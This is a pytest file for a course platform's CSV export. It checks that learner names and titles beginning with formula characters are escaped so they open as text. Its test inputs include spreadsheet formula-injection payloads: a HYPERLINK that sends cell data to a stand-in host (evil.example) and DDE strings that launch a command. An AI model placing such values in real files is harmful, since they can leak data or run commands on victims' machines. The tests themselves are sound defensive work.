"""CSV exports neutralise spreadsheet formulas (issue 17, item 8): a display name such as `=HYPERLINK(...)` must open
as text, never as a live formula, in every CSV the course offers for download."""

import csv
import io
import re
from pathlib import Path

import pandas as pd

from core.cohort import export, store
from core.course import curriculum, progress

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB=1", "\rCR=1", "\n=1", "=1+1", "Ada"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_safe_csv_prefixes_every_formula_cell_and_keeps_the_text():
    table = pd.DataFrame({"learner": HOSTILE, "score": range(len(HOSTILE)), "delta": [-1.5] * len(HOSTILE)})
    rows = _cells(export.safe_csv(table))
    assert rows[0] == ["learner", "score", "delta"]
    for raw, row in zip(HOSTILE, rows[1:], strict=True):
        cell = row[0]
        assert not cell.startswith(TRIGGERS), cell
        assert cell == (f"'{raw}" if raw.startswith(TRIGGERS) else raw)
        assert row[2] == "-1.5"  # numbers stay numbers


def test_a_line_break_inside_a_cell_cannot_start_a_row():
    table = pd.DataFrame({"title": ["x\r=cmd|' /C calc'!A0", "y\n@SUM(1)", "z\r\n+1"], "n": [1, 2, 3]})
    rows = _cells(export.safe_csv(table))
    assert [r[0] for r in rows[1:]] == list(table["title"]) and len(rows) == 4


def test_instructor_progress_csv_of_hostile_names_has_no_formula(db):
    course = curriculum.load_course()
    for name in HOSTILE:
        learner, _ = db.create_learner(name)
        db.set_section_done(learner.id, "m01", "1.1")
    learners, done = db.cohort_overview()
    table = pd.DataFrame(progress.cohort_table(course, learners, done))
    names = [row[0] for row in _cells(export.safe_csv(table))[1:]]
    assert len(names) == len(HOSTILE) and not any(n.startswith(TRIGGERS) for n in names), names
    assert "'=HYPERLINK(" in " ".join(names) and "'-2+3" in names and "Ada" in names


def test_leaderboard_csv_of_hostile_titles_has_no_formula(db):
    for i, name in enumerate(HOSTILE):
        learner, _ = db.create_learner(name)
        db.save_evaluation(learner.id, f"r{i}", "=cmd|' /C calc'!A0", "names", {}, 1.9, 5000, 20.0, "@sample")
        db.submit_result(learner.id, f"r{i}", "names")
    entries = pd.DataFrame(db.moderation_entries(None))
    assert len(entries) == len(HOSTILE)
    for row in _cells(export.safe_csv(entries))[1:]:
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), row


def test_every_csv_export_goes_through_safe_csv():
    """One function neutralises every download: no other module writes CSV of learner data itself."""
    allowed = {ROOT / "core/cohort/export.py",
               ROOT / "core/course/glossary.py"}  # course content from assets/, no learner-typed text
    offenders = [str(p.relative_to(ROOT)) for p in (ROOT / "core").rglob("*.py")
                 if p not in allowed and re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", p.read_text())]
    assert offenders == []
    assert store.safe_csv is export.safe_csv
